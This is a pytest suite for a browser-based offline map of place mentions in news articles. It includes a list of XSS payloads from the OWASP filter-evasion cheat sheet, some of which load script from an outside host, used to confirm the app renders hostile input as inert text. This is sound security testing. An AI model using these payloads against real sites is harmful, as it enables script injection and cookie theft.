"""The explorer in headless Chromium, from file:// with the network cut off.

Every request that is not a file: URL is aborted and recorded; map tiles are the only ones
allowed to be attempted (and only once the user switches to the tile layer).
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from mapkit import write_map

from mapper.read.corpus import short_title

#: CI sets this: a missing browser is then a failure, not a skip.
REQUIRED = bool(os.environ.get("MAPPER_REQUIRE_BROWSER"))
if REQUIRED:
    from playwright import sync_api
else:
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

CHROMIUM = Path(os.environ.get("MAPPER_CHROMIUM", "/usr/bin/chromium"))
ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
TILE_HOSTS = ("tile.openstreetmap.org",)

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(
        not CHROMIUM.exists() and not REQUIRED,
        reason=f"no Chromium at {CHROMIUM} (apt-get install chromium)",
    ),
]


class Page:
    """A Playwright page on one map, with what it logged, requested and tried to alert."""

    def __init__(self, browser: Any, url: str) -> None:
        self.errors: list[str] = []
        self.console: list[str] = []
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        self.page = browser.new_page(viewport={"width": 1280, "height": 800})
        self.page.on("console", self._on_console)
        self.page.on("pageerror", lambda exc: self.errors.append(str(exc)))
        self.page.on("dialog", self._on_dialog)
        self.page.route("**/*", self._route)
        self.page.goto(url)
        self.page.wait_for_function("document.documentElement.dataset.mapperReady === '1'")

    def _on_console(self, message: Any) -> None:
        self.console.append(f"{message.type}: {message.text}")
        if message.type in ("error", "warning"):
            self.errors.append(message.text)

    def _on_dialog(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _route(self, route: Any) -> None:
        url = route.request.url
        if url.startswith("file:"):
            route.continue_()
        else:
            self.requests.append(url)
            route.abort()

    def js(self, expression: str, arg: Any = None) -> Any:
        return self.page.evaluate(expression, arg)

    def place_point(self, key: str) -> tuple[float, float]:
        """Centre the map on the place (no animation) and return its marker's page position."""
        return tuple(
            self.js(
                """k => { const p = mapper.places.find(q => q.key === k), map = mapper.map;
                          map.setView([p.lat, p.lon], 8, {animate: false});
                          const xy = map.latLngToContainerPoint([p.lat, p.lon]);
                          const box = map.getContainer().getBoundingClientRect();
                          return [box.left + xy.x, box.top + xy.y]; }""",
                key,
            )
        )

    def click_place(self, key: str) -> None:
        """Click the place's marker where it is drawn on the canvas."""
        self.page.mouse.click(*self.place_point(key))

    def groups(self) -> list[dict[str, Any]]:
        """The excerpt groups shown in the panel, in order."""
        return self.js(
            """() => [...document.querySelectorAll('#mp-groups .mp-group')].map(g => ({
                 article: g.dataset.article,
                 title: g.querySelector('h3').textContent,
                 marks: [...g.querySelectorAll('mark')].map(m => m.textContent),
                 text: [...g.querySelectorAll('.mp-excerpt')].map(p => p.textContent)}))"""
        )

    def assert_clean(self) -> None:
        assert self.errors == [], self.errors
        assert self.dialogs == [], self.dialogs
        leaks = [u for u in self.requests if not any(h in u for h in TILE_HOSTS)]
        assert leaks == [], leaks


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        yield browser
        browser.close()


@contextmanager
def small_geodata(tmp: Path) -> Iterator[None]:
    """Point ``$MAPPER_GEODATA`` at two tiny hand-made layers for the duration."""
    from test_render import write_geodata

    old = os.environ.get("MAPPER_GEODATA")
    os.environ["MAPPER_GEODATA"] = str(write_geodata(tmp / "geodata"))
    try:
        yield
    finally:
        if old is None:
            del os.environ["MAPPER_GEODATA"]
        else:
            os.environ["MAPPER_GEODATA"] = old


@pytest.fixture(scope="module")
def sample_map(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from test_render import sample_inputs

    tmp = tmp_path_factory.mktemp("sample")
    with small_geodata(tmp):
        return write_map(*sample_inputs(), tmp / "out", title="Sample <b>map</b>")


@pytest.fixture()
def page(browser: Any, sample_map: Path) -> Iterator[Page]:
    page = Page(browser, sample_map.as_uri())
    yield page
    page.page.close()


def test_loads_offline_and_draws_every_place(page: Page) -> None:
    assert page.js("mapper.drawn()") == 5
    assert page.js("typeof L") == "object" and page.js("L.version") == "1.9.4"
    assert page.js("document.querySelectorAll('.leaflet-pane canvas').length") >= 3
    assert page.js("document.getElementById('mp-title').textContent") == "Sample <b>map</b>"
    page.assert_clean()


def test_click_place_groups_excerpts_newest_first(page: Page) -> None:
    from test_render import KANDAHAR

    page.click_place(KANDAHAR)
    assert page.js("mapper.selected()") == KANDAHAR
    groups = page.groups()
    assert [g["article"] for g in groups] == ["a1.txt", "a2.txt"]  # 2021-08-06, then 08-01
    assert groups[1]["marks"] == ["Kandahar", "Kandahar"]
    assert page.js("document.getElementById('mp-place-name').textContent") == "Kandahar"
    assert page.js("location.hash") == "#place=gn%3A1138336"
    # mentions over time: one bar per day with articles (two dates), tallest for 08-01 (2 marks)
    bars = page.js(
        "[...document.querySelectorAll('#mp-chart rect')]"
        ".map(r => [r.querySelector('title').textContent, +r.getAttribute('height')])"
    )
    assert [b[0] for b in bars] == ["2021-08-01: 2 mentions", "2021-08-06: 1 mention"]
    assert bars[0][1] > bars[1][1] > 0
    page.assert_clean()


def test_hostile_article_is_text_and_runs_nothing(page: Page) -> None:
    from test_render import HOSTILE, HOSTILE_FILE, HOSTILE_TITLE, KABUL

    page.click_place(KABUL)
    groups = page.groups()
    assert [g["article"] for g in groups] == ["a2.txt", HOSTILE_FILE]  # undated last
    evil = groups[1]
    assert evil["title"] == HOSTILE_TITLE
    assert evil["text"] == [HOSTILE]
    assert (
        page.js(
            "document.querySelectorAll('#mapper-panel img, #mapper-panel svg script,"
            " #mapper-panel script').length"
        )
        == 0
    )
    page.page.click("#mp-groups .mp-group:last-child .mp-read")
    assert page.js("document.getElementById('mp-reader-text').textContent") == HOSTILE
    assert page.js("document.getElementById('mp-reader-title').textContent") == HOSTILE_TITLE
    page.page.wait_for_timeout(200)
    page.assert_clean()
    assert page.js("window.__xss === undefined")


def test_search_finds_alternate_spelling(page: Page) -> None:
    from test_render import LASHKAR

    page.page.fill("#mp-search", "Lashkargah")
    first = page.page.locator("#mp-results li button").first
    assert first.get_attribute("data-place") == LASHKAR
    page.page.press("#mp-search", "Enter")
    assert page.js("mapper.selected()") == LASHKAR
    assert page.js("document.getElementById('mp-place-name').textContent") == "Lashkar Gah"
    assert page.js("document.getElementById('mp-results').hidden")
    # accents and case do not matter either; a hit on an alternate name shows it
    assert page.js("mapper.search('KÂBUL')[0].p.name") == "Kabul"
    page.page.fill("#mp-search", "qandah")
    assert "Kandahar (Qandahar)" in page.page.locator("#mp-results li button").first.text_content()
    page.assert_clean()


def test_article_filter_hides_other_articles_places(page: Page) -> None:
    from test_render import KANDAHAR

    page.page.fill("#mp-article", "airport")
    assert page.js("document.querySelectorAll('#mp-article-results li').length") == 1
    page.page.press("#mp-article", "Enter")
    assert page.js("mapper.articles[mapper.filter().article].id") == "a2.txt"
    assert page.js("mapper.drawn()") == 2  # Kandahar and Kabul
    assert page.js("mapper.shading()") == {"AF": 3, "AF-HEL": 0}  # a2: 2 x Kandahar, 1 x Kabul
    page.click_place(KANDAHAR)
    assert [g["article"] for g in page.groups()] == ["a2.txt"]
    assert "(filtered)" in page.js("document.getElementById('mp-place-meta').textContent")
    page.page.click("#mp-reset")
    assert page.js("mapper.drawn()") == 5
    assert page.js("mapper.shading()") == {"AF": 9, "AF-HEL": 2}
    assert [g["article"] for g in page.groups()] == ["a1.txt", "a2.txt"]
    page.assert_clean()


def test_date_filter_keeps_dated_articles_in_range(page: Page) -> None:
    assert page.js("document.getElementById('mp-dates').hidden") is False
    page.page.fill("#mp-from", "2021-08-05")
    assert page.js("mapper.drawn()") == 4  # a1's places only; the undated article drops out
    page.page.fill("#mp-from", "")
    page.page.fill("#mp-to", "2021-08-02")
    assert page.js("mapper.drawn()") == 2
    page.assert_clean()


def test_reader_marks_every_place_and_links_back(page: Page) -> None:
    from test_render import HELMAND, KANDAHAR

    page.click_place(KANDAHAR)
    page.page.click("#mp-groups .mp-group:first-child .mp-read")
    assert not page.js("document.getElementById('mp-reader').hidden")
    marks = page.js(
        "[...document.querySelectorAll('#mp-reader-text mark')]"
        ".map(m => [m.textContent, m.dataset.place, m.className])"
    )
    assert [m[0] for m in marks] == ["Kandahar", "Lashkar Gah", "Helmand", "Afghanistan"]
    assert marks[0][2] == "mp-here"
    page.page.click(f"#mp-reader-text mark[data-place='{HELMAND}']")
    assert page.js("mapper.selected()") == HELMAND
    assert not page.js("document.getElementById('mp-place').hidden")
    page.assert_clean()


def test_fragment_opens_a_place(browser: Any, sample_map: Path) -> None:
    from test_render import LASHKAR

    page = Page(browser, sample_map.as_uri() + "#place=" + LASHKAR.replace(":", "%3A"))
    assert page.js("mapper.selected()") == LASHKAR
    assert page.js("mapper.map.getBounds().contains([31.59, 64.36])")
    page.page.evaluate("location.hash = '#place=gn%3A1138336'")
    page.page.wait_for_function("mapper.selected() === 'gn:1138336'")
    page.assert_clean()
    page.page.close()


def test_summary_page_links_into_the_map(browser: Any, sample_map: Path) -> None:
    page = browser.new_page()
    errors: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.goto((sample_map.parent / "places.html").as_uri())
    page.click("text=Lashkar Gah")
    page.wait_for_function("window.mapper && mapper.selected() === 'gn:1147290'")
    assert errors == []
    page.close()


def test_tile_layer_is_opt_in_and_the_only_network_use(page: Page) -> None:
    assert page.requests == []  # offline basemap by default: nothing leaves the page
    page.page.click("text=OpenStreetMap tiles (online)")
    page.page.wait_for_timeout(300)
    assert page.requests and all("tile.openstreetmap.org" in u for u in page.requests)
    # tiles unreachable: the basemap under the tile pane, the shading and the places remain
    assert page.js("mapper.drawn()") == 5
    assert page.js("!!document.querySelector('.leaflet-mapper-base-pane canvas')")
    assert (
        page.js("getComputedStyle(document.querySelector('.leaflet-mapper-base-pane')).zIndex")
        == "150"
    )
    page.errors = [e for e in page.errors if "ERR_FAILED" not in e]  # the aborted tiles
    page.assert_clean()


def test_hover_shows_name_and_count(page: Page) -> None:
    from test_render import KANDAHAR

    box = page.place_point(KANDAHAR)
    page.page.mouse.move(box[0] + 1, box[1] + 1)
    page.page.wait_for_selector(".leaflet-tooltip")
    assert page.js("document.querySelector('.leaflet-tooltip').textContent") == (
        "Kandahar \u2014 3 mentions"
    )
    page.assert_clean()


SEEDS = Path(__file__).resolve().parent.parent / "seeds"


@pytest.fixture(scope="module")
def seeds_map(tmp_path_factory: pytest.TempPathFactory) -> Path:
    pipeline = pytest.importorskip("mapper.build.pipeline", reason="the pipeline is not in yet")
    return pipeline.build(SEEDS, tmp_path_factory.mktemp("seeds")).map_path


def test_seeds_map_kandahar_articles(browser: Any, seeds_map: Path) -> None:
    page = Page(browser, seeds_map.as_uri())
    assert page.js("mapper.drawn() + mapper.hidden()") == page.js("mapper.places.length") > 10
    # The city is gn:1138336; seed 002 names "Kandahar province", which may be its own place.
    kandahars = page.js(
        "mapper.places.filter(p => p.country === 'AF' && mapper.search('Kandahar')"
        ".some(h => h.p === p) && /^kandah/i.test(p.name.normalize('NFD')))"
        ".map(p => [p.key, p.kind])"
    )
    assert ["gn:1138336", "city"] in kandahars
    seen: dict[str, list[str]] = {}
    for key, _ in kandahars:
        page.click_place(key)
        assert page.js("mapper.selected()") == key
        groups = page.groups()
        seen[key] = [g["article"] for g in groups]
        for g in groups:
            assert g["marks"] and all(m.lower().startswith("kandah") for m in g["marks"]), g
    # Clicking the city shows all four articles: 002's "Kandahar province" comes under
    # "Also named Kandahār" in the same panel.
    city = {a[:3] for a in seen["gn:1138336"]}
    assert city == {"001", "002", "003", "004"}
    assert {a[:3] for articles in seen.values() for a in articles} == {"001", "002", "003", "004"}
    page.assert_clean()
    page.page.close()


#: Representative cases from the OWASP XSS filter-evasion cheat sheet, plus JSON/JS breakers.
XSS_PAYLOADS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',  # noqa: E501
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',  # noqa: E501
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "\";alert('XSS');//",
    "</script><script>alert(1)</script>",
    "${alert(1)}`${alert(2)}`{{constructor.constructor('alert(3)')()}}",
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\"}]}); alert(1); //',
    "\u2028alert(1)\u2029 <x onclick=alert(1)>click</x>",
]


@pytest.fixture(scope="module")
def hostile_map(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[Any]]:
    """One article per payload: payload as title, file name, and around the place name."""
    import datetime as dt

    import geopandas as gpd
    from shapely.geometry import Point

    from mapper.models import Article, Excerpt

    articles, excerpts, rows = [], [], []
    for n, payload in enumerate(XSS_PAYLOADS):
        name = f"{payload[:30]} Town{n}"  # place names are untrusted too
        text = f"{payload} In {name} today. {payload}"
        art = Article(
            f"{n:02d}_{payload[:40]}.txt",
            f"x/{payload}.txt",
            payload,
            dt.date(2024, 1, 1 + n % 28),
            text,
        )
        sentence = f"In {name} today."
        start = text.index(sentence)
        excerpts.append(Excerpt(art.id, f"x:{n}", start, sentence, ((3, 3 + len(name)),)))
        articles.append(art)
        rows.append(
            {
                "key": f"x:{n}",
                "name": name,
                "kind": "city",
                "country": "<b>",
                "mentions": 1,
                "n_articles": 1,
                "article_ids": art.id,
                "alt_names": payload,
            }
        )
    places = gpd.GeoDataFrame(
        rows,
        geometry=[Point(n % 36 * 10 - 170, n // 36 * 10) for n in range(len(rows))],
        crs="EPSG:4326",
    )
    tmp = tmp_path_factory.mktemp("hostile")
    with small_geodata(tmp):
        return write_map(places, excerpts, articles, tmp / "out", title=XSS_PAYLOADS[0]), articles


def test_hostile_corpus_runs_no_script(browser: Any, hostile_map: tuple[Path, list[Any]]) -> None:
    html, articles = hostile_map
    page = Page(browser, html.as_uri())
    # Zoomed out, circles that lie mostly on another are left for a closer zoom.
    assert page.js("mapper.drawn() + mapper.hidden()") == len(XSS_PAYLOADS)
    assert page.js("document.title") == XSS_PAYLOADS[0]
    # Labels are text: the hostile names drawn on the map made no element.
    labels = page.js("[...document.querySelectorAll('.mp-label')].filter(l => !l.hidden)"
                     ".map(l => [l.textContent, l.children.length])")
    assert labels and all(n == 0 for _, n in labels)
    assert {t for t, _ in labels} <= {f"{p[:30]} Town{n}" for n, p in enumerate(XSS_PAYLOADS)}
    for n, payload in enumerate(XSS_PAYLOADS):
        page.js("k => mapper.select(k)", f"x:{n}")
        group = page.groups()[0]
        assert group["title"] == payload
        assert group["marks"] == [f"{payload[:30]} Town{n}"]
        page.page.click("#mp-groups .mp-group .mp-read")
        assert page.js("document.getElementById('mp-reader-text').textContent") == articles[n].text
        assert page.js("document.getElementById('mp-reader-meta').textContent").endswith(
            articles[n].id
        )
    page.page.fill("#mp-search", "script")
    assert page.js("document.querySelectorAll('#mp-results li').length") > 0
    page.page.fill("#mp-article", "alert")
    assert page.js("document.querySelectorAll('#mp-article-results li').length") > 0
    # Nothing from the data became an element: no img, iframe, svg script, link, meta, base...
    assert (
        page.js(
            "document.querySelectorAll('#mapper-panel :is(img,iframe,script,object,embed,link,meta,"
            "base,style,body,input[type=IMAGE],table,a[onmouseover],x)').length"
        )
        == 0
    )
    page.page.wait_for_timeout(300)
    assert page.dialogs == [] and page.requests == [] and page.console == []
    page.assert_clean()
    page.page.close()


def test_csp_blocks_injected_inline_code(page: Page) -> None:
    """Defence in depth: even markup that got into the DOM could not run code."""
    page.js(
        """() => { window.__violations = [];
                   document.addEventListener('securitypolicyviolation',
                     e => window.__violations.push(e.violatedDirective));
                   const s = document.createElement('script');
                   s.textContent = 'window.__ran = 1';
                   document.body.appendChild(s);
                   document.body.insertAdjacentHTML('beforeend',
                     '<img src=x onerror="window.__ran = 3">'); }"""
    )
    page.page.wait_for_timeout(300)
    assert page.js("window.__ran === undefined")
    violations = page.js("window.__violations")
    assert any(v.startswith("script-src") for v in violations), violations
    assert page.dialogs == []


def test_overlapping_places_are_offered_and_panel_closes(page: Page) -> None:
    from test_render import KANDAHAR

    xy = page.js(
        """() => { const map = mapper.map;
                   map.setView([31.61, 65.71], 3, {animate: false});
                   const p = map.latLngToContainerPoint([31.61, 65.71]);
                   const box = map.getContainer().getBoundingClientRect();
                   return [box.left + p.x, box.top + p.y]; }"""
    )
    page.page.mouse.click(*xy)
    also = page.js("[...document.querySelectorAll('#mp-also button')].map(b => b.dataset.place)")
    clicked = page.js("mapper.selected()")
    assert clicked and KANDAHAR in [clicked, *also] and len(also) >= 2
    if clicked != KANDAHAR:
        page.page.click(f"#mp-also button[data-place='{KANDAHAR}']")
    assert page.js("mapper.selected()") == KANDAHAR
    assert (
        clicked
        in page.js("[...document.querySelectorAll('#mp-also button')].map(b => b.dataset.place)")
        or clicked == KANDAHAR
    )
    page.page.click("#mp-close")
    assert page.js("mapper.selected()") is None
    assert not page.js("document.getElementById('mp-intro').hidden")
    assert page.js("location.hash") == ""
    page.assert_clean()


def test_source_filter_keeps_one_folder(browser: Any, tmp_path: Path) -> None:
    import geopandas as gpd
    from shapely.geometry import Point

    from mapper.models import Article, Excerpt

    specs = [("reuters/a.txt", "Kabul"), ("reuters/b.txt", "Herat"), ("afp/c.txt", "Kandahar")]
    articles = [Article(i, i, f"About {n}", None, f"News from {n}.") for i, n in specs]
    excerpts = [Excerpt(i, f"k:{n}", 0, f"News from {n}.", ((10, 10 + len(n)),)) for i, n in specs]
    places = gpd.GeoDataFrame(
        [
            {
                "key": f"k:{n}",
                "name": n,
                "kind": "city",
                "country": "AF",
                "mentions": 1,
                "n_articles": 1,
                "article_ids": i,
                "alt_names": "",
            }
            for i, n in specs
        ],
        geometry=[Point(62 + k, 33) for k in range(3)],
        crs="EPSG:4326",
    )
    with small_geodata(tmp_path):
        html = write_map(places, excerpts, articles, tmp_path / "out")
    page = Page(browser, html.as_uri())
    page.page.fill("#mp-article", "reut")
    first = page.page.locator("#mp-article-results li button").first
    assert first.get_attribute("data-source") == "reuters"
    assert "2 articles" in first.text_content()
    page.page.press("#mp-article", "Enter")
    assert page.js("mapper.drawn()") == 2
    assert page.js("mapper.filter().source") == "reuters"
    page.page.fill("#mp-article", "")
    page.page.dispatch_event("#mp-article", "input")
    assert page.js("mapper.drawn()") == 3
    page.assert_clean()
    page.page.close()


def test_reader_in_excerpt_only_mode(
    browser: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from test_render import KANDAHAR, sample_inputs

    from mapper.build import mapview

    monkeypatch.setattr(mapview, "TEXT_BUDGET", 0)
    with small_geodata(tmp_path):
        html = write_map(*sample_inputs(), tmp_path / "out")
    page = Page(browser, html.as_uri())
    page.js("k => mapper.select(k)", KANDAHAR)
    page.page.click("#mp-groups .mp-group:last-child .mp-read")  # a2.txt
    text = page.js("document.getElementById('mp-reader-text').textContent")
    assert text == "Rockets hit Kandahar airport. Kabul calm. Kandahar again."  # all of it quoted
    marks = page.js(
        "[...document.querySelectorAll('#mp-reader-text mark')].map(m => m.textContent)"
    )
    assert marks == ["Kandahar", "Kabul", "Kandahar"]
    assert "too large to embed" in page.js("document.getElementById('mp-reader-meta').textContent")
    page.assert_clean()
    page.page.close()


def test_hostile_files_through_the_pipeline(browser: Any, tmp_path: Path) -> None:
    """The payloads as real files (names, titles, bodies) through `mapper build`."""
    pipeline = pytest.importorskip("mapper.build.pipeline", reason="the pipeline is not in yet")
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for n, payload in enumerate(XSS_PAYLOADS):
        name = f"{n:02d} {payload.replace('/', '_').replace(chr(0), '')[:60]}.txt"
        body = f"{payload}\n\nFighting near Kabul and Kandahar. {payload}\nKabul again.\n"
        (corpus / name).write_text(body, encoding="utf-8")
    # Every excerpt embedded (no cap), so every hostile title reaches the panel.
    html = pipeline.build(corpus, tmp_path / "out", max_excerpts=0).map_path
    page = Page(browser, html.as_uri())
    assert page.js("mapper.articles.length") == len(XSS_PAYLOADS)
    assert page.js("mapper.drawn()") >= 1
    kabul = page.js("mapper.search('Kabul')[0].p.key")
    page.js("k => mapper.select(k)", kabul)
    titles = page.js("[...document.querySelectorAll('#mp-groups h3')].map(h => h.textContent)")
    assert len(titles) == len(XSS_PAYLOADS)
    # shown verbatim (the corpus reader strips the leading U+2028 of one title as whitespace)
    # Titles over 200 characters are cut with an ellipsis (mapper.read.corpus.short_title).
    assert sum(short_title(p) in titles for p in XSS_PAYLOADS) >= len(XSS_PAYLOADS) - 1
    for n in range(len(XSS_PAYLOADS)):
        page.page.click(f"#mp-groups .mp-group:nth-child({n + 1}) .mp-read")
        assert "Kabul" in page.js("document.getElementById('mp-reader-text').textContent")
        page.page.click("#mp-back")
    assert (
        page.js(
            "document.querySelectorAll('#mapper-panel :is(img,iframe,script,object,embed,svg image,"
            "link,meta,base,style,body,table)').length"
        )
        == 0
    )
    page.page.wait_for_timeout(300)
    assert page.dialogs == [] and page.requests == [] and page.console == []
    page.assert_clean()
    page.page.close()


def test_capped_place_says_where_the_rest_is(browser: Any, tmp_path: Path) -> None:
    from test_render import KANDAHAR, sample_inputs

    with small_geodata(tmp_path):
        html = write_map(*sample_inputs(), tmp_path / "out", max_excerpts=1)
    page = Page(browser, html.as_uri())
    page.js("k => mapper.select(k)", KANDAHAR)
    assert [g["article"] for g in page.groups()] == ["a1.txt"]  # the newest article only
    note = page.js("document.getElementById('mp-capped')")
    assert note is not None
    assert not page.js("document.getElementById('mp-capped').hidden")
    text = page.js("document.getElementById('mp-capped').textContent")
    assert text.startswith("Showing 1 mention of ") and "mentions.csv" in text
    page.assert_clean()
    page.page.close()
